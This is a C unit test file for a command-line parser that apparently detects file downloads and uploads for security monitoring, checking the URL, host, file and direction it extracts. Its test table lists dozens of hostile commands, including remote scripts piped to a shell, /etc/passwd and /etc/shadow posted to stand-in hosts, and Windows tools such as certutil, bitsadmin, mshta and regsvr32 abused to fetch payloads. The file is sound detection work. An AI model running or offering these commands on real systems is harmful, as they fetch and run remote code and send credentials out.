#include "command/command.h"

#include "unit.h"

static const struct {
	const char *line, *url, *host, *file; /* url NULL: no transfer */
	bool up;
} cases[] = {
	{ "svchost.exe -k netsvcs -p", NULL, NULL, NULL, false },
	{ "curl -O https://a.example/x/y.exe?b=1", "https://a.example/x/y.exe?b=1", "a.example",
	  "y.exe", false },
	{ "curl -sSLo /tmp/y http://a.example/x", "http://a.example/x", "a.example", "/tmp/y",
	  false },
	{ "curl --output=y -H 'X: b' a.example/x", "a.example/x", "a.example", "y", false },
	{ "curl localhost:8888/payload.sh > /tmp/p.sh", "localhost:8888/payload.sh", "localhost",
	  "/tmp/p.sh", false },
	{ "curl -s http://a.example/x 2>/dev/null | sh", "http://a.example/x", "a.example", "x",
	  false },
	{ "C:\\Windows\\System32\\Curl.exe -k -F \"file=@c:\\a b\\c.zip\" https://a.example/up/",
	  "https://a.example/up/", "a.example", "c:\\a b\\c.zip", true },
	{ "curl -T secret.txt ftp://a.example/", "ftp://a.example/", "a.example", "secret.txt",
	  true },
	{ "curl -d @/etc/passwd http://a.example", "http://a.example", "a.example", "/etc/passwd",
	  true },
	{ "curl -d x=1 http://a.example/p", "http://a.example/p", "a.example", "p", false },
	{ "/bin/sh -c \"sudo wget -q -O /tmp/a http://10.0.0.1:8000/a && chmod +x /tmp/a\"",
	  "http://10.0.0.1:8000/a", "10.0.0.1", "/tmp/a", false },
	{ "wget --post-file=\"/etc/shadow\" https://a.example/ --delete-after",
	  "https://a.example/", "a.example", "/etc/shadow", true },
	{ "certutil.exe -urlcache -split -f \"http://a.example/b.txt\" C:\\Temp\\b.exe",
	  "http://a.example/b.txt", "a.example", "C:\\Temp\\b.exe", false },
	{ "cmd.exe /c \"bitsadmin /transfer j /download /priority high http://a.example/b.exe "
	  "C:\\t\\b.exe\"",
	  "http://a.example/b.exe", "a.example", "C:\\t\\b.exe", false },
	{ "bitsadmin /transfer j /upload http://a.example/b.zip C:\\t\\b.zip",
	  "http://a.example/b.zip", "a.example", "C:\\t\\b.zip", true },
	{ "certreq -Post -config http://a.example/ c:\\windows\\win.ini", "http://a.example/",
	  "a.example", "c:\\windows\\win.ini", true },
	{ "powershell iwr -Uri http://a.example/x.ps1 -OutFile $env:TEMP\\x.ps1",
	  "http://a.example/x.ps1", "a.example", "$env:TEMP\\x.ps1", false },
	{ "powershell -c \"Invoke-WebRequest a.example/x -OutF x.exe -UseBasicParsing\"",
	  "a.example/x", "a.example", "x.exe", false },
	{ "$u = 'https://a.example/up'; $f = \"C:\\x.txt\"; Invoke-WebRequest -Uri $u -Method Put "
	  "-InFile $f",
	  "https://a.example/up", "a.example", "C:\\x.txt", true },
	{ "Start-BitsTransfer -Source http://a.example/a -Destination c:\\a", "http://a.example/a",
	  "a.example", "c:\\a", false },
	{ "Start-BitsTransfer -Source c:\\a -Destination https://a.example/a -TransferType Upload",
	  "https://a.example/a", "a.example", "c:\\a", true },
	{ "powershell \"(New-Object "
	  "Net.WebClient).DownloadFile('http://a.example/a','c:\\a.exe')\"",
	  "http://a.example/a", "a.example", "c:\\a.exe", false },
	{ "powershell -c \"(new-object net.webclient).DownloadFile(\\\"http://a.example/a\\\", "
	  "\\\"b.exe\\\")\"",
	  "http://a.example/a", "a.example", "b.exe", false },
	{ "IEX (New-Object Net.WebClient).DownloadString('http://a.example/b/c.ps1')",
	  "http://a.example/b/c.ps1", "a.example", "c.ps1", false },
	{ "(New-Object Net.WebClient).UploadFile('http://a.example/u', 'PUT', 'c:\\d.txt')",
	  "http://a.example/u", "a.example", "c:\\d.txt", true },
	{ "$x=New-Object -Com Msxml2.XMLHTTP;$x.open('GET','http://a.example/a',$false);$x.send();"
	  "$s.SaveToFile('b.exe',2)",
	  "http://a.example/a", "a.example", "b.exe", false },
	{ "mshta.exe http://a.example/b.hta", "http://a.example/b.hta", "a.example", "b.hta",
	  false },
	{ "msiexec /q /i http://a.example/b.msi", "http://a.example/b.msi", "a.example", "b.msi",
	  false },
	{ "cscript.exe /b C:\\Windows\\System32\\en-US\\pubprn.vbs 127.0.0.1 "
	  "script:https://a.example/f.sct",
	  "https://a.example/f.sct", "a.example", "f.sct", false },
	{ "wscript \\\\10.0.0.9\\s\\x.vbs", "\\\\10.0.0.9\\s\\x.vbs", "10.0.0.9", "x.vbs", false },
	{ "regsvr32 /s /n /u /i:http://a.example/f.sct scrobj.dll", "http://a.example/f.sct",
	  "a.example", "f.sct", false },
	{ "MpCmdRun.exe -DownloadFile -url http://a.example/a.exe -path c:\\temp\\a.exe",
	  "http://a.example/a.exe", "a.example", "c:\\temp\\a.exe", false },
	{ "esentutl.exe /y \\\\10.0.0.5\\w\\a.exe /d C:\\x\\a.exe /o", "\\\\10.0.0.5\\w\\a.exe",
	  "10.0.0.5", "C:\\x\\a.exe", false },
	{ "cmd /c copy \\\\srv@SSL@8443\\dav\\a.exe %TEMP%", "\\\\srv@SSL@8443\\dav\\a.exe", "srv",
	  "%TEMP%", false },
	{ "xcopy C:\\d\\x.zip \\\\srv\\in\\", "\\\\srv\\in\\", "srv", "C:\\d\\x.zip", true },
	{ "findstr /V /L nothing \\\\srv\\s\\f.exe > c:\\f.exe", "\\\\srv\\s\\f.exe", "srv",
	  "c:\\f.exe", false },
	{ "scp user@b.example:/tmp/x /tmp/y", "user@b.example:/tmp/x", "b.example", "/tmp/y",
	  false },
	{ "scp -i key -P 2222 /tmp/y user@b.example:", "user@b.example:", "b.example", "/tmp/y",
	  true },
	{ "tftp -i 10.0.0.9 GET a.exe c:\\a.exe", "tftp://10.0.0.9/a.exe", "10.0.0.9", "c:\\a.exe",
	  false },
	{ "nc -w 3 10.0.0.9 443 > out.bin", "10.0.0.9:443", "10.0.0.9", "out.bin", false },
	{ "bash -c 'exec 3<>/dev/tcp/10.0.0.9/80'", "10.0.0.9:80", "10.0.0.9", NULL, false },
	{ "python3 -c \"import urllib.request as u;u.urlretrieve('http://a.example/a','/tmp/a')\"",
	  "http://a.example/a", "a.example", "/tmp/a", false },
	{ "php -r \"file_put_contents('b.php', file_get_contents('http://a.example/a'));\"",
	  "http://a.example/a", "a.example", "b.php", false },
	{ "URL=http://a.example/a; curl -o /tmp/b \"$URL\"", "http://a.example/a", "a.example",
	  "/tmp/b", false },
	{ "update.exe --download=https://a.example/r", "https://a.example/r", "a.example", "r",
	  false },
	{ "start ms-appinstaller:?source=http://a.example/a.appx", "http://a.example/a.appx",
	  "a.example", "a.appx", false },
	{ "anything.exe -x=http://u:p@0x7f000001:80/a", "http://u:p@0x7f000001:80/a", "127.0.0.1",
	  "a", false },
	{ "git clone https://a.example/r.git /opt/r", "https://a.example/r.git", "a.example",
	  "/opt/r", false },
	{ "explorer.exe \\\\?\\C:\\x", NULL, NULL, NULL, false },
	{ "notepad.exe C:\\a.b\\c.txt", NULL, NULL, NULL, false },
	{ "copy a.txt b.txt", NULL, NULL, NULL, false },
	/* below a host is below a host, to Windows' programs too … */
	{ "mshta a.example/b.hta", "a.example/b.hta", "a.example", "b.hta", false },
	{ "msiexec /q /i a.example:8080/b.msi", "a.example:8080/b.msi", "a.example", "b.msi",
	  false },
	{ "regsvr32 /s /u /i:localhost/a.sct scrobj.dll", "localhost/a.sct", "localhost", "a.sct",
	  false },
	/* … but what could be a host is a file to them, and to what copies */
	{ "mshta a.hta", NULL, NULL, NULL, false },
	{ "wscript.exe b.js", NULL, NULL, NULL, false },
	{ "msiexec /i a.msi /qn", NULL, NULL, NULL, false },
	{ "installutil /U AllTheThings.dll", NULL, NULL, NULL, false },
	{ "regsvr32 /s /i:a.txt scrobj.dll", NULL, NULL, NULL, false },
	{ "esentutl /y file.txt:ads /d b.txt", NULL, NULL, NULL, false },
	{ "powershell Copy-Item -Path a.txt -Destination b.txt", NULL, NULL, NULL, false },
	{ "mshta folder/b.hta", NULL, NULL, NULL, false },
	/* namespaces are names */
	{ "<Task xmlns=\"http://schemas.example/task\"><Command>a.exe</Command></Task>", NULL, NULL,
	  NULL, false },
	{ "<a xmlns:b='http://schemas.example/b' xmlns=\\\"http://schemas.example/c\\\" "
	  "c=\"http://a.example/d\">",
	  "http://a.example/d", "a.example", "d", false },
	{ "", NULL, NULL, NULL, false },
};

static void transfers_are_read(void **unused)
{
	struct arena mem = { 0 };
	size_t failed = 0;

	(void)unused;
	for (size_t i = 0; i < COUNT(cases); i++) {
		struct transfer t = { .direction = TRANSFER_DOWNLOAD };
		bool found = command_transfer(str_of(cases[i].line), &t, &mem);
		bool same = found == (cases[i].url != NULL) &&
		            (!found || (str_eq(t.url, str_of(cases[i].url)) &&
		                        str_eq(t.host, str_of(cases[i].host)) &&
		                        (!cases[i].file || str_eq(t.file, str_of(cases[i].file))) &&
		                        (t.direction == TRANSFER_UPLOAD) == cases[i].up));

		if (!same)
			print_error("%s\n  url %.*s, host %.*s, file %.*s, %s\n", cases[i].line,
			            STR_ARG(t.url), STR_ARG(t.host), STR_ARG(t.file),
			            t.direction == TRANSFER_UPLOAD ? "upload" : "download");
		failed += !same;
	}
	assert_int_equal(failed, 0);
	arena_free(&mem);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(transfers_are_read),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
